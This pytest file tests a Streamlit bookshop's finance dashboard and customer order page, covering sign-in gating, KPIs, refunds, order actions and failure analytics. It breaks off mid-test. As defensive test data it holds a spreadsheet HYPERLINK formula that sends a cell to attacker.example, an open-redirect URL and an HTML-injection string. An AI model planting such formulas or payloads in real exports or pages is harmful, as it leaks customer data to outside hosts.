"""The finance pages and "Your order" through AppTest: sign-in gate, KPIs, filters, refunds, cancel/ship rules."""

from __future__ import annotations

import contextlib
import re
import time
import uuid
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import httpx
import pytest
import stripe
from streamlit.testing.v1 import AppTest

from shop import attempts, audit, auth, catalog, clock, config, orders, refund_requests, sync, sync_store
from shop.checkout import charges, intents
from shop.db import get_engine
from tests.app.downloads import Downloads
from tests.support import ROOT, use_emulator
from tests.support_app import sign_in_as_staff
from tests.support_data import CHECKOUT_DETAILS, CUSTOMER, FIXTURE, charge_object, store_charges, ts

DASHBOARD = str(ROOT / "dashboard.py")
HAMMING = "art-of-doing-science"


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, private_emulator) -> Iterator[Path]:
    """A fresh store and an empty emulator account per test; the ops password throttle starts clean."""
    use_emulator(monkeypatch, private_emulator, tmp_path)
    private_emulator.reset()
    auth.THROTTLE.reset()
    yield tmp_path
    auth.THROTTLE.reset()


@pytest.fixture
def api(private_emulator, env) -> stripe.StripeClient:
    return private_emulator.client()


def open_page(page: str, signed_in: bool = True) -> AppTest:
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    if signed_in:
        sign_in_as_staff(at)
    at.run()
    at.switch_page(f"pages/{page}.py")
    at.run()
    assert not at.exception, at.exception
    return at


def metrics(at: AppTest) -> dict[str, tuple[str, str | None]]:
    return {metric.label: (metric.value, metric.delta) for metric in at.metric}


def texts(elements) -> list[str]:
    return [element.value for element in elements]


def paid_order(quantity: int = 1) -> orders.Order:
    order = orders.create_order(CUSTOMER, catalog.priced_line(HAMMING, quantity))
    result = charges.pay_order(order.id, "tok_visa", uuid.uuid4().hex, card_brand="visa", card_last4="4242")
    assert result.succeeded
    return orders.get_order(order.id)


def fixture_store() -> None:
    """The hand-computed fixture of the analytics tests, marked as freshly synced (no sync on render)."""
    store_charges(get_engine(), FIXTURE)
    with get_engine().begin() as conn:
        sync_store.write_state(
            conn, {sync_store.BACKFILLED: "1", sync_store.LAST_EVENT_ID: "", sync_store.LAST_SYNCED_AT: time.time()}
        )


# ---------------------------------------------------------------------------------------------- sign-in


STAFF_PAGES = ("charges", "failures", "refunds", "orders", "disputes", "balance", "charge")
SIGN_IN_TITLE = ":material/lock: Sign in"


def html_bodies(at: AppTest) -> list[str]:
    return [element.proto.body for element in at.get("html")]


@pytest.mark.parametrize("page", STAFF_PAGES)
def test_signed_out_each_staff_page_renders_nothing_of_its_own_only_the_sign_in(env, page):
    fixture_store()  # a store with charges, so each page would have something to show
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    if page == "charge":
        at.query_params["id"] = "ch_a"
    at.switch_page(f"pages/{page}.py").run()
    assert not at.exception, at.exception
    assert [title.value for title in at.title] == [SIGN_IN_TITLE]
    for kind in ("dataframe", "metric", "button", "selectbox", "text_input", "date_input", "download_button"):
        assert not at.get(kind), f"{page} rendered a {kind} signed out"
    (form,) = [body for body in html_bodies(at) if "<form" in body]
    assert 'action="/staff/sign-in"' in form
    expected = "/charge?id=ch_a" if page == "charge" else f"/{page}"
    assert f'name="next" value="{expected}"' in form  # signing in leads back here


def test_a_forged_or_signed_out_cookie_opens_no_staff_page(env):
    from shop import staff_sessions
    from tests.support_app import TEST_COOKIE_KEY

    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    started = staff_sessions.start()
    staff_sessions.end(started.cookie)
    for cookie in (started.cookie, "eyJ4Ijoie30.forged.cookie"):
        at.session_state[TEST_COOKIE_KEY] = cookie
        at.run()
        at.switch_page("pages/refunds.py").run()
        assert [title.value for title in at.title] == [SIGN_IN_TITLE]


def test_the_sign_in_page_offers_the_form_and_the_demo_password_and_says_why_a_try_failed(env):
    at = open_page("sign_in", signed_in=False)
    assert any(auth.DEMO_PASSWORD in text for text in texts(at.info))
    assert any('action="/staff/sign-in"' in body for body in html_bodies(at))
    at.query_params["failed"] = "wrong"
    at.run()
    assert texts(at.error) == ["Wrong password. Check it and try again."]
    at.query_params["failed"] = "wait"
    at.query_params["wait"] = "38"
    at.run()
    assert texts(at.error) == ["Too many wrong passwords. Wait 38 s, then try again."]


def test_the_sign_in_page_carries_only_our_own_pages_as_where_to_go_next(env):
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    at.query_params["next"] = "https://evil.example/charges"
    at.switch_page("pages/sign_in.py").run()
    assert any('name="next" value=""' in body for body in html_bodies(at))
    at.query_params["next"] = '/charge?id="><img src=x>'
    at.run()
    assert any('name="next" value="/charge?id=%22%3E%3Cimg+src%3Dx%3E"' in body for body in html_bodies(at))


def sso_app(monkeypatch, email: str, **verified: bool) -> AppTest:
    monkeypatch.setenv("OPS_ALLOWED_EMAILS", "ana@example.com")
    monkeypatch.setenv("OPS_ALLOWED_DOMAINS", "press.example")
    config.get_settings.cache_clear()
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.secrets["auth"] = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "x" * 32}
    at.user = {"is_logged_in": True, "email": email, **verified}
    return at


@pytest.mark.parametrize("email", ["ana@example.com", "bo@press.example"])
def test_with_single_sign_on_a_listed_account_sees_the_finance_pages(env, monkeypatch, email):
    at = sso_app(monkeypatch, email)
    at.run()
    at.switch_page("pages/charges.py").run()
    assert at.title[0].value == "Charges"


@pytest.mark.parametrize(
    ("email", "verified"), [("eve@example.com", {}), ("bo@press.example", {"email_verified": False})]
)
def test_with_single_sign_on_an_account_not_on_the_list_is_refused_and_told_what_to_ask_for(
    env, monkeypatch, email, verified
):
    at = sso_app(monkeypatch, email, **verified)
    at.run()
    at.switch_page("pages/charges.py").run()
    assert [title.value for title in at.title] == [SIGN_IN_TITLE]
    assert not at.dataframe and not at.metric
    (refusal,) = texts(at.error)
    assert email in refusal and "OPS_ALLOWED_EMAILS" in refusal


def test_stripe_mode_without_a_password_says_how_to_enable_the_finance_pages(env, monkeypatch):
    monkeypatch.setenv("STRIPE_SECRET_KEY", "sk_test_notreal")
    monkeypatch.setenv("STRIPE_PUBLISHABLE_KEY", "pk_test_notreal")
    config.get_settings.cache_clear()
    at = open_page("sign_in", signed_in=False)
    assert texts(at.warning) == [auth.HOW_TO_ENABLE]
    assert not at.text_input


# ---------------------------------------------------------------------------------------------- charges


def charges_for_fixture_week() -> AppTest:
    fixture_store()
    at = open_page("charges")
    at.selectbox(key="charges_period").select("Custom range").run()
    at.date_input(key="charges_dates").set_value((date(2026, 11, 14), date(2026, 11, 20))).run()
    assert not at.exception, at.exception
    return at


def table_ids(at: AppTest) -> set[str]:
    return set(at.dataframe[0].value["Charge"])


def test_kpis_equal_the_hand_computed_values(env):
    at = charges_for_fixture_week()
    shown = metrics(at)
    # Worked out in tests/unit/test_analytics.py: gross 12200, refunded 2500, 6 of 8 succeeded, 5 captured.
    assert shown["Gross volume"] == ("$122.00", "+$99.00 (+430.4%)")
    assert shown["Refunded"] == ("$25.00", "+$25.00")
    assert shown["Net volume"] == ("$97.00", "+$74.00 (+321.7%)")
    assert shown["Succeeded"] == ("6", "+5")
    assert shown["Success rate"] == ("75.0%", "+25.0 pp")
    assert shown["Average order value"] == ("$24.40", "+$1.40 (+6.1%)")
    assert table_ids(at) == {"ch_a", "ch_b", "ch_c", "ch_d", "ch_e", "ch_f", "ch_g", "ch_h"}


def test_all_time_shows_no_change_against_a_period_before_the_first_charge(env):
    fixture_store()
    at = open_page("charges")
    at.selectbox(key="charges_period").select("All time").run()
    assert not at.exception, at.exception
    assert all(delta in (None, "") for _value, delta in metrics(at).values())
    # Said once under the cards, not on each card beside a change that is not there.
    assert [metric.label for metric in at.metric if metric.proto.delta_description] == []
    assert "No earlier charges to compare with." in texts(at.caption)


def test_each_filter_narrows_the_table(env):
    at = charges_for_fixture_week()
    at.multiselect(key="charges_status").set_value(["failed"]).run()
    assert table_ids(at) == {"ch_d", "ch_f"}
    assert metrics(at)["Succeeded"][0] == "0"
    at.multiselect(key="charges_status").set_value([]).run()

    at.text_input(key="charges_email").input("dee@").run()
    assert table_ids(at) == {"ch_d", "ch_e"}
    at.text_input(key="charges_email").input("").run()

    at.multiselect(key="charges_books").set_value(["making-of-prince-of-persia"]).run()
    assert table_ids(at) == {"ch_b"}
    at.multiselect(key="charges_books").set_value([]).run()

    at.text_input(key="charges_min").input("25").run()
    at.text_input(key="charges_max").input("30.00").run()
    assert table_ids(at) == {"ch_f", "ch_g"}
    at.text_input(key="charges_max").input("lots").run()
    assert any("Max amount ($)" in text and "ignored" in text for text in texts(at.warning))
    assert table_ids(at) == {"ch_b", "ch_f", "ch_g"}  # min 25 still applies

    assert any("match" in text for text in texts(at.markdown))


# ---------------------------------------------------------------------------------------------- refunds


def find_charge(at: AppTest, query: str) -> AppTest:
    at.text_input(key="refund_query").input(query).run()
    assert not at.exception, at.exception
    return at


def ask_refund(at: AppTest, how: str, amount: str = "", reason: str = "requested_by_customer") -> AppTest:
    at.radio(key="refund_how").set_value(how)
    at.text_input(key="refund_amount").input(amount)
    at.selectbox(key="refund_reason").select(reason)
    next(button for button in at.button if button.label == "Refund…").click().run()
    assert not at.exception, at.exception
    return at


def test_a_partial_refund_lowers_net_by_exactly_its_amount(env, api):
    order = paid_order()
    at = open_page("charges")
    at.selectbox(key="charges_period").select("Today").run()
    before = metrics(at)
    assert before["Net volume"][0] == "$23.00"

    refunds = open_page("refunds")
    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Part of it", "5")
    refunds.button(key="refund_pending_yes").click().run()
    assert texts(refunds.success)[0].startswith(f"Refunded $5.00 of {order.charge_id}")
    assert api.v1.charges.retrieve(order.charge_id).amount_refunded == 500
    assert orders.get_order(order.id).status == "partially_refunded"
    assert list(refunds.dataframe[0].value["Amount"]) == [5.0]  # the refund history

    at = open_page("charges")
    at.selectbox(key="charges_period").select("Today").run()
    after = metrics(at)
    assert after["Net volume"][0] == "$18.00"
    assert after["Refunded"][0] == "$5.00"
    assert after["Gross volume"][0] == before["Gross volume"][0]


def test_after_a_partial_refund_the_form_is_empty_so_a_second_click_cannot_repeat_it(env, api):
    order = paid_order()
    refunds = open_page("refunds")
    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Part of it", "5", reason="duplicate")
    refunds.button(key="refund_pending_yes").click().run()
    assert api.v1.charges.retrieve(order.charge_id).amount_refunded == 500
    assert refunds.text_input(key="refund_amount").value == ""
    assert refunds.radio(key="refund_how").value == "Everything left"
    assert refunds.selectbox(key="refund_reason").value == "requested_by_customer"
    next(button for button in refunds.button if button.label == "Refund…").click().run()
    assert refunds.session_state["refund_pending"]["amount"] == 1800  # what is left, never the $5.00 again
    assert [e.actor for e in audit.entries(charge_id=order.charge_id)] == ["staff"]


def open_charge(charge_id: str) -> AppTest:
    """The charge page of `charge_id`, signed in (open_page), after a sync has brought the charge in."""
    at = open_page("charges")
    at.query_params["id"] = charge_id
    at.switch_page("pages/charge.py")
    at.run()
    assert not at.exception, at.exception
    return at


def test_a_charge_is_refunded_from_its_own_page(env, api):
    order = paid_order()
    sync.sync(api, full=True)
    at = open_charge(order.charge_id)
    assert [e.label for e in at.expander if e.label.startswith("Refund")] == ["Refund (up to $23.00)"]
    ask_refund(at, "Part of it", "5", reason="duplicate")
    assert "Refund <strong>$5.00</strong>" in " ".join(texts(at.markdown))
    at.button(key="refund_pending_yes").click().run()
    assert not at.exception, at.exception
    assert texts(at.success)[0].startswith(f"Refunded $5.00 of {order.charge_id}")
    assert api.v1.charges.retrieve(order.charge_id).amount_refunded == 500
    assert orders.get_order(order.id).status == "partially_refunded"
    at.run()
    assert [e.label for e in at.expander if e.label.startswith("Refund")] == ["Refund (up to $18.00)"]
    [refunds] = [frame.value for frame in at.dataframe if "Refund" in frame.value.columns]
    assert list(refunds["Reason"]) == ["duplicate"] and list(refunds["Status"]) == ["succeeded"]


def test_refund_history_has_a_period_and_a_total(env, api):
    first, second = paid_order(), paid_order()
    api.v1.refunds.create(params={"charge": first.charge_id, "amount": 500})
    api.v1.refunds.create(params={"charge": second.charge_id})
    sync.sync(api, full=True)
    at = open_page("refunds")
    at.selectbox(key="refunds_period").select("Today").run()
    assert metrics(at)["Refunded in the period"][0] == "$28.00"
    assert "2 refunds issued in the period." in texts(at.caption)
    assert sorted(at.dataframe[0].value["Amount"]) == [5.0, 23.0]
    at.selectbox(key="refunds_period").select("Custom range").run()
    at.date_input(key="refunds_dates").set_value((date(2026, 1, 1), date(2026, 1, 31))).run()
    assert not at.exception, at.exception
    assert "No refunds in this period." in texts(at.caption)
    assert "Refunded in the period" not in metrics(at)


def test_dispute_figures_say_their_period_on_both_pages(env):
    fixture_store()
    charges = open_page("charges")
    labels = set(metrics(charges))
    assert {"Dispute rate, this period", "Disputes' effect on net, this period"} <= labels
    disputes = open_page("disputes")
    assert any(text.startswith("All time: the dispute rate and the effect on net") for text in texts(disputes.caption))


def test_ids_link_to_their_pages(env, api):
    monday = 1894010400  # 2030-01-07 10:00 UTC
    api.raw_request("post", "/_emulator/clock", frozen_time=str(monday))
    try:
        first = api.v1.charges.create(params={"amount": 2300, "currency": "usd", "source": "tok_visa"})
        api.raw_request("post", "/_emulator/clock", frozen_time=str(monday + 3 * 86400))  # Thursday: paid out
        second = api.v1.charges.create(params={"amount": 1200, "currency": "usd", "source": "tok_visa"})
        api.raw_request("post", "/_emulator/clock", frozen_time=str(monday + 10 * 86400))  # a week on: paid out
        older, newer = sorted(api.v1.payouts.list().data, key=lambda payout: payout.created)
        sync.sync(api, full=True)

        at = open_page("charges")
        at.query_params["id"] = first.id
        at.switch_page("pages/charge.py")
        at.run()
        assert not at.exception, at.exception
        [link] = [e for e in at.get("page_link") if e.proto.label.startswith("Balance transaction")]
        assert link.proto.label == f"Balance transaction {first.balance_transaction}"

        balance = open_page("charges")
        balance.query_params["payout"] = older.id  # not the newest, which the page opens by default
        balance.switch_page("pages/balance.py")
        balance.run()
    finally:
        api.raw_request("post", "/_emulator/clock", frozen_time="")
    assert not balance.exception, balance.exception
    assert any(text.startswith(f"**{older.id}**") for text in texts(balance.markdown))
    transactions = balance.dataframe[1].value
    assert list(transactions["Charge or refund"]) == [first.id]
    assert second.id != first.id and newer.id != older.id


def test_codes_reach_the_pages_in_words(env, api):
    order = paid_order()
    refunds = open_page("refunds")
    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Part of it", "5", reason="requested_by_customer")
    refunds.button(key="refund_pending_yes").click().run()
    history = refunds.dataframe[0].value
    assert list(history["Reason"]) == ["requested by customer"]
    sync.sync(api, full=True)
    at = open_charge(order.charge_id)
    [shown] = [frame.value for frame in at.dataframe if "Refund" in frame.value.columns]
    assert list(shown["Reason"]) == ["requested by customer"]
    assert list(shown["Note"]) == [f"$5.00, requested by customer, refund {shown['Refund'].iloc[0]}"]
    assert not shown.astype(str).apply(lambda column: column.str.contains("requested_by_customer")).any().any()


def test_an_amount_typed_with_everything_left_chosen_is_refused_not_refunded_in_full(env, api):
    order = paid_order()
    refunds = open_page("refunds")
    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Everything left", "5")
    assert "refund_pending" not in refunds.session_state  # no dialog offering $23.00
    assert any("Part of it" in text for text in texts(refunds.error)), texts(refunds.error)
    assert api.v1.charges.retrieve(order.charge_id).amount_refunded == 0


def test_every_refusal_has_its_message(env, api):
    order = paid_order()
    with pytest.raises(stripe.CardError):
        api.v1.charges.create(params={"amount": 2300, "currency": "usd", "source": "tok_chargeDeclined"})
    failed_id = api.v1.charges.list(params={"limit": 1}).data[0].id
    refunds = open_page("refunds")

    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Part of it", "23.01")
    assert texts(refunds.error) == ["At most $23.00 can still be refunded on this charge; enter $23.00 or less."]
    ask_refund(refunds, "Part of it", "0")
    assert texts(refunds.error) == ["Enter a refund amount above zero."]
    ask_refund(refunds, "Part of it", "-5")
    assert texts(refunds.error) == ["Enter a refund amount above zero."]
    ask_refund(refunds, "Part of it", "five")
    assert "Enter the amount in dollars" in refunds.error[0].value
    assert "refund_pending" not in refunds.session_state

    find_charge(refunds, failed_id)
    ask_refund(refunds, "Everything left")
    assert texts(refunds.error) == ["This charge failed, so no money was taken: there is nothing to refund."]

    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Everything left", reason="duplicate")
    refunds.button(key="refund_pending_yes").click().run()
    assert api.v1.charges.retrieve(order.charge_id).refunded is True
    find_charge(refunds, order.charge_id)
    ask_refund(refunds, "Part of it", "1")
    assert texts(refunds.error) == ["This charge is already fully refunded."]


def test_keeping_the_money_in_the_dialog_refunds_nothing(env, api):
    order = paid_order()
    refunds = open_page("refunds")
    find_charge(refunds, order.id)  # by order number
    ask_refund(refunds, "Everything left")
    assert "Refund $23.00" in [button.label for button in refunds.button]
    refunds.button(key="refund_pending_no").click().run()
    assert "refund_pending" not in refunds.session_state
    assert api.v1.charges.retrieve(order.charge_id).amount_refunded == 0


# ---------------------------------------------------------------------------------------------- orders


def select_orders(at: AppTest, *order_ids: str) -> AppTest:
    """Tick the table rows of `order_ids` as a browser would: by their positions in the table as last drawn."""
    drawn = list(at.session_state["orders_table_drawn"])
    at.session_state["orders_table"] = {"selection": {"rows": [drawn.index(oid) for oid in order_ids], "columns": []}}
    return at.run()


def test_orders_ship_and_cancel_act_on_the_selected_rows_and_say_so_per_order(env, api):
    shipped, cancelled = paid_order(), paid_order(2)
    at = open_page("orders")
    assert set(at.dataframe[0].value["Order"]) == {shipped.id, cancelled.id}
    assert at.button(key="orders_ship").disabled and at.button(key="orders_cancel").disabled  # nothing selected

    select_orders(at, shipped.id)
    at.button(key="orders_ship").click().run()
    assert texts(at.success) == [f"Order {shipped.id} marked shipped."]
    assert orders.get_order(cancelled.id).shipped_at is None
    assert at.button(key="orders_ship").disabled  # the selection is cleared: the next click cannot hit another order

    select_orders(at, shipped.id)
    at.button(key="orders_cancel").click().run()  # nothing to confirm: the one order selected cannot be cancelled
    assert texts(at.error) == [f"Order {shipped.id} has shipped, so it cannot be cancelled; refund it instead."]

    select_orders(at, cancelled.id)
    at.button(key="orders_cancel").click().run()
    at.button(key="orders_cancel_pending_yes").click().run()
    assert texts(at.success) == [f"Order {cancelled.id} cancelled; $46.00 refunded."]
    charge = api.v1.charges.retrieve(cancelled.charge_id)
    assert (charge.refunded, charge.amount_refunded) == (True, 4600)
    assert api.v1.refunds.list(params={"charge": cancelled.charge_id}).data[0].reason == "requested_by_customer"
    select_orders(at, cancelled.id)
    at.button(key="orders_ship").click().run()
    assert texts(at.error) == [f"Order {cancelled.id} is cancelled; a cancelled order cannot be shipped."]
    assert orders.get_order(cancelled.id).status == "cancelled"
    logged = [(e.order_id, e.actor, e.action) for e in audit.entries()]
    assert logged == [(shipped.id, "staff", "ship"), (cancelled.id, "staff", "cancel")]


def test_several_selected_orders_are_acted_on_at_once_each_with_its_result(env, api):
    first, second, third = paid_order(), paid_order(), paid_order()
    orders.mark_shipped(third.id)
    at = open_page("orders")
    select_orders(at, first.id, second.id, third.id)
    assert at.button(key="orders_ship").label == "Mark 3 shipped"
    at.button(key="orders_ship").click().run()
    (done,) = texts(at.success)  # one line per order, in the table's order
    assert sorted(done.split("  \n")) == sorted(
        [f"Order {first.id} marked shipped.", f"Order {second.id} marked shipped."]
    )
    assert texts(at.error) == [f"Order {third.id} has already shipped."]
    assert {orders.get_order(o.id).status for o in (first, second, third)} == {"shipped"}


def test_a_selection_stays_on_its_orders_when_the_list_changes_before_the_click(env, api):
    chosen, neighbour = paid_order(), paid_order()
    at = open_page("orders")
    select_orders(at, chosen.id)
    paid_order()  # a new order (newest first) moves every row down while the page is open
    at.run()
    at.button(key="orders_ship").click().run()
    assert orders.get_order(chosen.id).shipped_at is not None
    assert orders.get_order(neighbour.id).shipped_at is None
    assert [e.order_id for e in audit.entries() if e.action == "ship"] == [chosen.id]


# ---------------------------------------------------------------------------------------------- your order


def look_up(at: AppTest, number: str, email: str) -> AppTest:
    at.text_input(key="your_order_number").input(number)
    at.text_input(key="your_order_email").input(email)
    next(button for button in at.button if button.label == "Find my order").click().run()
    assert not at.exception, at.exception
    return at


def test_your_order_needs_both_number_and_email(env):
    order = paid_order()
    at = open_page("your_order", signed_in=False)
    look_up(at, order.id, "someone-else@example.com")
    assert texts(at.error)[0].startswith("No order matches that order number and email.")
    assert not at.metric  # nothing about the order is shown
    look_up(at, "SP-NOTANORD", CUSTOMER.email)
    assert texts(at.error)[0].startswith("No order matches")
    look_up(at, order.id.lower(), CUSTOMER.email.upper())
    assert metrics(at)["Total charged"][0] == "$23.00"
    assert any("being prepared for shipping" in text for text in texts(at.markdown))


def test_customer_cancels_an_unshipped_order_and_sees_it_at_once(env, api):
    order = paid_order()
    at = open_page("your_order", signed_in=False)
    look_up(at, order.id, CUSTOMER.email)
    at.button(key="your_order_cancel").click().run()
    at.button(key="your_order_cancel_asked_yes").click().run()
    assert texts(at.success)[0].startswith("Your order is cancelled and $23.00 is refunded")
    assert any("Cancelled" in text for text in texts(at.markdown))
    assert api.v1.charges.retrieve(order.charge_id).refunded is True


def test_shipped_order_refund_request_is_approved_or_rejected_on_the_refunds_page(env, api):
    approved, rejected = paid_order(), paid_order()
    for order in (approved, rejected):
        orders.mark_shipped(order.id)
        at = open_page("your_order", signed_in=False)
        look_up(at, order.id, CUSTOMER.email)
        assert not [button for button in at.button if button.label == "Cancel my order"]
        next(button for button in at.button if button.label == "Request a refund").click().run()
        assert texts(at.error) == ["Tell us briefly why you want a refund."]
        at.text_area(key="your_order_reason").input("The cover arrived torn.")
        next(button for button in at.button if button.label == "Request a refund").click().run()
        assert texts(at.success)[0].startswith("Thanks — your refund request is with our team")

    requests = {request.order_id: request for request in refund_requests.list_refund_requests("pending")}
    refunds = open_page("refunds")
    refunds.button(key=f"request_approve_{requests[approved.id].id}").click().run()
    assert texts(refunds.success)[0].startswith(f"Approved: {approved.id} refunded")
    refunds.button(key=f"request_reject_{requests[rejected.id].id}").click().run()
    assert texts(refunds.success) == [f"Rejected the refund request for {rejected.id}."]

    assert api.v1.charges.retrieve(approved.charge_id).amount_refunded == 2300
    assert api.v1.charges.retrieve(rejected.charge_id).amount_refunded == 0
    decided = {request.order_id: request.status for request in refund_requests.list_refund_requests()}
    assert decided == {approved.id: "approved", rejected.id: "rejected"}


def bank_debit(charge_id: str, created: int, **terms) -> dict:
    """A charge of the fixture's shape paid from a US bank account, as Stripe's Payment Element makes one."""
    charge = charge_object(charge_id, created, 2300, email="ann@example.com", order_id=f"SP-{charge_id}", **terms)
    details = {"last4": "6789", "bank_name": "STRIPE TEST BANK", "routing_number": "110000000"}
    return charge | {"payment_method_details": {"type": "us_bank_account", "us_bank_account": details}}


def test_bank_debits_show_as_processing_on_charges_and_apart_on_failures(env):
    returned = {"status": "failed", "failure_code": "insufficient_funds", "decline_code": "insufficient_funds"}
    processing = bank_debit("ch_bank1", ts(19, 11), status="pending", captured=False)
    store_charges(get_engine(), [*FIXTURE, processing, bank_debit("ch_bank2", ts(19, 12), **returned)])
    at = charges_for_fixture_week()
    assert metrics(at)["Processing"][0] == "$23.00"
    assert metrics(at)["Gross volume"][0] == "$122.00"  # the hand-computed week's: a debit in flight is not in it
    table = at.dataframe[0].value.set_index("Charge")
    assert table.loc["ch_bank1", "Payment method"] == "US bank account •••• 6789"
    assert table.loc["ch_a", "Payment method"] == "visa •••• 4242"

    failures = open_page("failures")
    failures.selectbox(key="failures_period").select("All time").run()
    advice = " ".join(block.value for block in failures.markdown)
    assert "<code>insufficient_funds (bank debit)</code></strong> · 1 attempt (25%)" in advice
    assert "<code>insufficient_funds</code></strong> · 1 attempt (25%)" in advice  # the card's, apart
    assert "The bank returned the debit" in advice


# ---------------------------------------------------------------------------------------------- failures


def test_failures_page_counts_codes_and_recovered_orders(env):
    fixture_store()
    at = open_page("failures")
    at.selectbox(key="failures_period").select("All time").run()
    assert not at.exception, at.exception
    shown = metrics(at)
    # 3 failed (d, f, p2) of 11 decided charges; order SP-DDDD0001 recovered with another card.
    assert shown["Failed attempts"][0] == "3"
    assert shown["Failure rate"][0] == "27.3%"
    assert shown["Failed orders recovered"][0] == "1 of 3"
    assert shown["Recovered volume"][0] == "$23.00"
    advice = " ".join(block.value for block in at.markdown)
    for code in ("insufficient_funds", "generic_decline", "expired_card"):
        assert f"<code>{code}</code></strong> · 1 attempt (33%)" in advice
    failed = at.dataframe[0].value
    assert set(failed["Charge"]) == {"ch_d", "ch_f", "ch_p2"}
    recovered = at.dataframe[1].value
    assert list(recovered["Order"]) == ["SP-DDDD0001"]
    assert list(recovered["Time to recover"]) == ["5 minutes"]


def test_sync_now_backfills_charges_made_in_stripe(env, api):
    made = api.v1.charges.create(params={"amount": 1234, "currency": "usd", "source": "tok_visa"})
    at = open_page("charges")
    at.selectbox(key="charges_period").select("Today").run()
    assert made.id in table_ids(at)  # the first render synced by itself: the store was never synced
    second = api.v1.charges.create(params={"amount": 999, "currency": "usd", "source": "tok_mastercard"})
    at.run()
    assert second.id not in table_ids(at)  # a rerun reads the store; it does not list Stripe
    at.button(key="ops_sync_now").click().run()
    assert second.id in table_ids(at)
    assert any(text.startswith("Last synced with Stripe") for text in texts(at.caption))


def test_failures_page_counts_a_failed_3ds_check_that_made_no_charge(env):
    fixture_store()
    with clock.store_clock(lambda: ts(16, 9)):
        order = orders.create_order(CUSTOMER, catalog.priced_line(HAMMING, 1))
        orders.set_payment_intent(order.id, "pi_3ds_failed")
        attempt = attempts.start_attempt(order.id, "auth-challenge")
        attempts.finish_attempt(
            attempt.id,
            "failed",
            code="payment_intent_authentication_failure",
            message="We are unable to authenticate your payment method.",
        )
    at = open_page("failures")
    at.selectbox(key="failures_period").select("All time").run()
    assert not at.exception, at.exception
    shown = metrics(at)
    # The fixture's 3 failed of 11 decided charges, and one failed attempt with no charge: 4 of 12.
    assert shown["Failed attempts"][0] == "4"
    assert shown["Failure rate"][0] == "33.3%"
    assert any("3 failed charges and 1 attempt that failed before a charge" in text for text in texts(at.caption))
    advice = " ".join(block.value for block in at.markdown)
    assert "<code>payment_intent_authentication_failure</code></strong> · 1 attempt (25%)" in advice
    before_a_charge = at.dataframe[1].value
    assert list(before_a_charge["Order"]) == [order.id]
    assert list(before_a_charge["Code"]) == ["payment_intent_authentication_failure"]
    at.segmented_control(key="failures_rate_view").set_value("week").run()
    assert not at.exception, at.exception


def test_orders_page_settles_attempts_whose_result_was_lost(env, api):
    order = orders.create_order(CUSTOMER, catalog.priced_line(HAMMING, 1))
    attempt = attempts.start_attempt(order.id, "lost-click", card_brand="visa", card_last4="4242")
    attempts.finish_attempt(attempt.id, "error", message="Stripe could not be reached")
    at = open_page("orders")
    assert any("1 payment attempt with an unknown result" in text for text in texts(at.markdown))
    at.button(key="orders_reconcile").click().run()
    assert texts(at.success) == [
        "Checked 1 attempt: 1 settled, 0 still in progress (checked again after a minute); "
        "0 unpaid orders turned out paid."
    ]
    assert attempts.unsettled_attempts() == []
    assert attempts.list_attempts(order.id)[0].code == "not_charged"
    assert api.v1.charges.list().data == []  # settling never charges
    assert not any("unknown result" in text for text in texts(at.markdown))


@pytest.mark.parametrize("card", ["pm_card_chargeDeclined", "pm_card_authenticationRequired"])
def test_orders_page_asks_nothing_about_a_decline_or_a_failed_challenge(env, api, private_emulator, card):

    details = {**CHECKOUT_DETAILS, "name": "Dorothy Vaughan", "email": f"dv-{uuid.uuid4().hex[:6]}@example.com"}
    with clock.store_clock(lambda: int(time.time()) - 3600):
        order = intents.prepare_checkout(details, HAMMING, 1).order
        with contextlib.suppress(stripe.CardError):  # the decline: Stripe answered
            api.v1.payment_intents.confirm(order.payment_intent_id, params={"payment_method": card})
        if card == "pm_card_authenticationRequired":  # the customer fails (or closes) the bank's check
            intent = api.v1.payment_intents.retrieve(order.payment_intent_id)
            httpx.post(
                f"{private_emulator.url}/_emulator/3ds/{intent.id}/authenticate",
                data={"client_secret": intent.client_secret, "result": "fail"},
            ).raise_for_status()
        intents.settle_order(order.id, nonce="the-page-reported", client=api)
    assert orders.get_order(order.id).status == "failed"
    at = open_page("orders")
    assert not any("Checking asks Stripe" in text for text in texts(at.markdown))
    assert not [button for button in at.button if button.key == "orders_reconcile"]


@pytest.mark.parametrize("page", ["charges", "failures", "refunds", "orders"])
def test_every_finance_page_renders_on_an_empty_store(env, page):
    at = open_page(page)  # nothing synced, no order: a new shop's first day
    assert not at.exception, at.exception
    assert at.title[0].value in {"Charges", "Failures", "Refunds", "Orders"}


def test_orders_page_settles_an_order_whose_tab_closed_after_the_card_was_confirmed(env, api):

    details = {**CHECKOUT_DETAILS, "name": "Mary Jackson", "email": f"mary-{uuid.uuid4().hex[:6]}@example.com"}
    with clock.store_clock(lambda: int(time.time()) - 3600):  # an hour ago: no customer is still at checkout
        prepared = intents.prepare_checkout(details, HAMMING, 1)
    order = prepared.order
    # The browser confirmed the intent, then the tab closed before the page heard back.
    api.v1.payment_intents.confirm(order.payment_intent_id, params={"payment_method": "pm_card_visa"})
    assert orders.get_order(order.id).paid_at is None

    at = open_page("orders")
    assert any("1 unpaid order with a payment started" in text for text in texts(at.markdown))
    at.button(key="orders_reconcile").click().run()
    paid = orders.get_order(order.id)
    assert paid.status == "paid"
    assert paid.charge_id == api.v1.payment_intents.retrieve(order.payment_intent_id).latest_charge
    assert "1 unpaid order turned out paid." in texts(at.success)[0]


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'  # a customer's name, as typed at checkout
FORMULA_EMAIL = "=1+2@example.com"  # a valid address that a spreadsheet would run


def test_every_finance_table_can_be_downloaded_as_csv(env, api, monkeypatch):
    downloads = Downloads(monkeypatch)
    shipping = {"name": FORMULA, "address": {"line1": "1 Main St", "city": "Portland", "country": "US"}}
